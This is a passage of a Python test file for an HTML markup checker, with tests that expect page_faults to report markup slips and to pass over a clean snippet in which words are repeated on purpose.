    ],
)
def test_slip_in_markup_is_found(html: str, says: str) -> None:
    assert [fault for _, fault in markup.page_faults(html) if says in fault]


def test_sound_markup_has_no_slip() -> None:
    html = '<meta name="viewport" content="width=device-width,initial-scale=1">'
    html += '<ol style="--units: 10"><li aria-label="x">He had had that that.</li></ol><pre>the the[^9]</pre>'
    assert list(markup.page_faults(html)) == []
